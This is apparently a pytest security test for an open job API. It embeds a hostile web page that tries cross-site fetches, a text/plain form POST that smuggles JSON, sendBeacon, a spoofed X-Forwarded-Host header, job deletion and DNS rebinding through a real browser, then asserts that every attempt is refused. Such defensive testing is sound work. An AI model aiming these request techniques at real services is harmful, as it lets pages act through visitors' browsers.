"""A web page tries to use an open API through the browser of somebody who looks at it.

The browser is a real one. The page tries it under the API's own addresses, as pages of other sites do (cross-site
requests), and under its own name, which leads to the API once the page has been loaded (DNS rebinding).
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.support.browser import EVIL, browser, browsing, evil_site
from tests.support.serving import PREFIX, Server, standing_api
from tests.support.waiting import TIME_LIMIT_SECONDS
from tests.support.web import HOLDER, JOB

PAGE = """<!doctype html><title>A harmless page</title><script type="module">
const {places, job, holder, victim} = FACTS, own = location.hostname === "localhost";
const submitted = JSON.stringify({...job, type: own ? "of-the-user" : "of-the-page"});
const json = {"Content-Type": "application/json"}, seen = [];

async function attempt(base, method, path, more = {}) {
  const entry = {base, method, path, mode: more.mode || "cors"};
  seen.push(entry);
  try {
    const answer = await fetch(base + path, {method, ...more});
    entry.status = answer.status;
    entry.text = await answer.text();
  } catch (error) { entry.failed = String(error); }
}

function form(base) {
  const frame = document.createElement("iframe");
  const element = document.body.appendChild(document.createElement("form")), input = document.createElement("input");
  frame.name = "frame" + base;
  document.body.append(frame);
  Object.assign(element, {method: "post", action: base + "/jobs", enctype: "text/plain", target: "frame" + base});
  Object.assign(input, {name: submitted.slice(0, -1) + ', "arguments": ["', value: '"]}'});
  element.append(input);
  return new Promise(done => { frame.onload = done; element.submit(); });
}

async function attack(base) {
  const claim = JSON.stringify(holder), free = {mode: "no-cors"}, forms = new URLSearchParams(job);
  await attempt(base, "GET", "/jobs");
  await attempt(base, "GET", "/jobs", free);
  await attempt(base, "GET", "/metrics");
  await attempt(base, "GET", "/nowhere");
  await attempt(base, "POST", "/jobs", {headers: json, body: submitted});
  await attempt(base, "POST", "/jobs", {body: submitted});
  await attempt(base, "POST", "/jobs", {...free, body: submitted});
  await attempt(base, "POST", "/jobs", {...free, body: new Blob([submitted], json)});
  await attempt(base, "POST", "/jobs", {...free, body: forms});
  await attempt(base, "POST", "/jobs/claim", {headers: {...json, "X-Forwarded-Host": "localhost"}, body: claim});
  if (!own) await attempt(base, "DELETE", "/jobs/" + victim, {headers: {"X-Request-Id": "a"}});
  if (!own) await attempt(base, "PUT", "/jobs/" + victim + "/complete", {headers: json, body: claim});
  navigator.sendBeacon(base + "/jobs", new Blob([submitted], {type: "text/plain"}));
  if (!own) await form(base);
}

await Promise.all((own ? places.slice(0, 1) : places).map(attack));
await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
if (!own) location.host = "localhost:" + location.port;
</script>"""


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """An open API on a Redis of its own."""
    browser()
    with standing_api(WEB_CONCURRENCY="1") as server:
        yield server


def test_a_page_of_an_evil_origin_gets_nothing_done_and_reads_nothing(api: Server, tmp_path: Path) -> None:
    victim = api.call("POST", "/jobs", JOB | {"type": "canary"}).json()["id"]
    before = api.call("GET", f"/jobs/{victim}").json()
    elsewhere = [f"http://{host}:{api.port}{PREFIX}" for host in ("127.0.0.1", "localhost", EVIL)]
    facts = {"places": [PREFIX, *elsewhere], "job": JOB, "holder": HOLDER, "victim": victim}
    with (
        evil_site(PAGE, api, **facts) as (site, server),
        browsing(f"http://{EVIL}:{urlsplit(server.url).port}/", tmp_path),
    ):
        evil = site.reports.get(timeout=TIME_LIMIT_SECONDS)
        assert {each["base"] for each in evil} == {*facts["places"]}
        assert [each for each in evil if reads_something(each)] == []
        assert api.call("GET", f"/jobs/{victim}").json() == before
        own_page = site.reports.get(timeout=TIME_LIMIT_SECONDS)
    listed = api.call("GET", "/jobs").json()
    assert [job["type"] for job in listed if job["type"] == "of-the-page"] == []
    # The browser did send requests of the page to the API's own addresses.
    assert 'flask_http_request_total{method="POST",status="403"}' in api.call("GET", "/metrics").text
    # The same page under a name of the server does all that, so it was the name that kept the evil one from it.
    assert [each["status"] for each in own_page if each["mode"] == "cors"] == [200, 200, 404, 201, 415, 200]
    assert "canary" in own_page[0]["text"]
    assert [job["type"] for job in listed if job["type"] == "of-the-user"]


def reads_something(attempt: dict[str, Any]) -> bool:
    """Whether a page was told anything but that it may not ask."""
    if "failed" in attempt or not attempt["status"]:  # the browser keeps the answer from the page
        return False
    return attempt["status"] not in (400, 403) or "canary" in attempt["text"]
